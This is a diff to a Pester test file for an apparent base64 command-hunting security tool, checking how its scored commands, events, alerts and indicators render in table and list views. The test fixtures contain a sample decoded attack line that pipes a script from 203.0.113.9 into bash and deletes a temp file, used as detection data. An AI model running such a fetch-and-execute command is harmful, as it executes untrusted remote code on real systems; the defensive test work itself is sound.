@@ -30,8 +30,12 @@ Describe 'B64Hunt.Format.ps1xml views' {
     It 'shows a CommandScore as a ranked row with a bar of its parts' {
         # 1 (rare) + 3 (TI high) + 3 (alert high) = 7: 1 cell F, 3 cells S, 3 cells A, 3 empty.
         $text = Render $Score 'Table'
-        $text | Should -Match 'Rank\s+TotalScore F░ S▓ A█\s+Freq\s+Sev\s+Alert\s+Count\s+Hosts\s+DecodedCommand'
-        $text | Should -Match '1\s+7[.,]00 ░▓▓▓███···\s+1[.,]00\s+3\s+3\s+1\s+1 curl http://203\.0\.113\.9/x\.sh \| bash⏎rm -f /tmp/x �\[2J'
+        $text | Should -Match 'Rank\s+TotalScore F░ S▓ A█\s+Count\s+Hosts\s+DecodedCommand'
+        $text | Should -Match '1\s+7[.,]00 ░▓▓▓███···\s+1\s+1 curl http://203\.0\.113\.9/x\.sh \| bash⏎rm -f /tmp/x �\[2J'
+        # The Wide view adds the parts' numbers, the hosts and the categories.
+        $wide = $Score | Format-Table -View Wide | Out-String -Width 250
+        $wide | Should -Match 'Rank\s+TotalScore F░ S▓ A█\s+Freq\s+Sev\s+Alert\s+Count\s+Hosts\s+Hostnames\s+Categories\s+DecodedCommand'
+        $wide | Should -Match '1\s+7[.,]00 ░▓▓▓███···\s+1[.,]00\s+3\s+3\s+1\s+1 web1\s+Network connections/Downloading\s+curl http'
     }
     It 'lists everything about a CommandScore' {
         $text = Render $Score 'List'
@@ -45,14 +49,17 @@ Describe 'B64Hunt.Format.ps1xml views' {
     }
     It 'shows a CommandEvent as a row and a full list' {
         $table = Render $Event 'Table'
-        $table | Should -Match '2024-05-01 10:00:00 web1\s+1 base64\s+curl http://203\.0\.113\.9/x\.sh \| bash⏎'
+        $table | Should -Match '2024-05-01 10:00:00Z web1\s+1 curl http://203\.0\.113\.9/x\.sh \| bash⏎'
+        $wide = $Event | Format-Table -View Wide | Out-String -Width 250
+        $wide | Should -Match 'TimeGenerated\s+Computer\s+Account\s+Count\s+DecodeChain\s+Categories\s+DecodedCommand'
+        $wide | Should -Match '2024-05-01 10:00:00Z web1\s+1 base64\s+Network connections/Downloading\s+curl http'
         $list = Render $Event 'List'
         foreach ($label in 'TimeGenerated', 'Computer', 'Account', 'Source', 'EventCount', 'Hostnames', 'DecodeChain', 'Categories', 'GtfoBins', 'Iocs', 'TiResults', 'CommandLine', 'EncodedText', 'DecodedCommand') {
             $list | Should -Match "(?m)^$label\s+:"
         }
     }
     It 'shows RelatedAlert, Ioc, TiResult and GtfoBinsTag as tables and lists' {
-        Render $Alert 'Table' | Should -Match '2024-05-01 10:05:00 web1\.contoso\.com\s+High\s+Suspicious download'
+        Render $Alert 'Table' | Should -Match '2024-05-01 10:05:00Z web1\.contoso\.com\s+High\s+Suspicious download'
         Render $Alert 'List' | Should -Match 'Description\s+: A file was downloaded'
         Render $Ioc 'Table' | Should -Match 'ipv4\s+False\s+203\.0\.113\.9\s+203\.0\.113\[\.\]9'
         Render $Ioc 'List' | Should -Match 'Normalized\s+: 203\.0\.113\.9'
